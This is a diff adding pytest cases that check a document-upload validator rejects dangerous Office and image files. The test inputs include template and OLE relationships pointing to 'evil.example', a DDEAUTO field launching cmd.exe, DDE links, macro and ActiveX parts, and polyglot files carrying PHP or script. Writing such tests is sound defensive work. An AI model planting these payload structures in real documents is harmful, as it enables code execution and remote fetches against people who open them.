@@ -9,10 +9,9 @@ import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from app.documents.content import identify
 from app.documents.kinds import ALL, CSV, DOCX, JPEG, PDF, PNG, TEXT, XLSX, Kind
 from app.errors import Invalid
-from tests.documents.conftest import JPEG_BYTES, PDF_BYTES, PNG_BYTES, office
+from tests.documents.conftest import JPEG_BYTES, PDF_BYTES, PNG_BYTES, identify, office
 
 EVERYTHING = frozenset(ALL)
 
@@ -131,6 +130,83 @@ def test_it_refuses_a_hostile_file_in_a_sentence(name: str) -> None:
 def test_it_refuses_entries_that_stand_twice() -> None:
     with pytest.raises(Invalid, match="unpacks"):
         _what(_twin_entries())
+
+
+def _rels(kind: str, target: str, mode: str = "External") -> bytes:
+    return (
+        b'<Relationships><Relationship Id="a" Type="http://schemas.example/relationships/%s" '
+        b'Target="%s" TargetMode="%s"/></Relationships>'
+        % (kind.encode(), target.encode(), mode.encode())
+    )
+
+
+def _text(**parts: bytes) -> bytes:
+    return office("word/document.xml", **parts)
+
+
+FIELD = b"<w:instrText>%s</w:instrText>"
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        _text(**{"word/_rels/settings.xml.rels": _rels("attachedTemplate", "http://evil.example/a")}),
+        _text(**{"word/_rels/document.xml.rels": _rels("oleObject", "http://evil.example/a")}),
+        _text(**{"word/_rels/document.xml.rels": _rels("frame", "http://evil.example/a")}),
+        _text(**{"word/_rels/document.xml.rels": _rels("image", "http://evil.example/a.png")}),
+        _text(**{"word/_rels/document.xml.rels": _rels("hyperlink", "file:///c:/a/run.EXE")}),
+        office(**{"xl/_rels/a.rels": _rels("hyperlink", "run.bat?x")}),
+        office(**{"xl/externalLinks/externalLink1.xml": b'<ddeLink ddeService="cmd"/>'}),
+        office(**{"xl/externalLinks/externalLink1.xml": b"<x:ddeLink/>"}),
+        _text(**{"word/header1.xml": FIELD % b'DDEAUTO c:\\cmd.exe "/k calc"'}),
+        _text(**{"word/header1.xml": (FIELD % b"DD") + (FIELD % b"E excel x")}),
+        _text(**{"word/header1.xml": b'<w:fldSimple w:instr="DDE cmd"/>'}),
+    ],
+)  # fmt: skip
+def test_it_refuses_what_fetches_or_starts_something(content: bytes) -> None:
+    with pytest.raises(Invalid, match="fetches something from elsewhere"):
+        _what(content)
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        *("xl/vbaProject.bin", "xl/macrosheets/sheet1.xml", "word/activeX/activeX1.xml"),
+        *("word/embeddings/oleObject1.bin", "xl/ActiveX/a.bin", "xl/dialogsheets/sheet1.xml"),
+    ],
+)
+def test_it_refuses_programs_and_objects_inside(name: str) -> None:
+    with pytest.raises(Invalid, match="macros or programs"):
+        _what(office(**{name: b"x"}))
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        office(**{"xl/_rels/a.rels": _rels("externalLinkPath", "file:///c:/prices.xlsx")}),
+        _text(**{"word/_rels/document.xml.rels": _rels("hyperlink", "https://ppra.example/a")}),
+        _text(**{"word/_rels/document.xml.rels": _rels("image", "media/a.png", "Internal")}),
+        _text(**{"word/header1.xml": FIELD % b"PAGE"}),
+        _text(**{"word/document2.xml": b"<w:t>added or faddeed DDE </w:t>"}),
+    ],
+)
+def test_it_takes_links_of_every_day(content: bytes) -> None:
+    assert _what(content) in {XLSX, DOCX}
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        PDF_BYTES + office(),
+        JPEG_BYTES + _plain_zip(),
+        PDF_BYTES.replace(b"1 0 obj", b"%<html>\n1 0 obj"),
+        PNG_BYTES.replace(b"\0" * 30, b"\0%PDF-1.7\0<?php"),
+        b"\xff\xd8\xff\xe0<script>" + JPEG_BYTES,
+    ],
+)
+def test_it_refuses_a_file_of_two_kinds(content: bytes) -> None:
+    with pytest.raises(Invalid, match="of two kinds at the same time"):
+        _what(content)
 
 
 @pytest.mark.parametrize("content", [b"a,b\n", office(), PNG_BYTES])
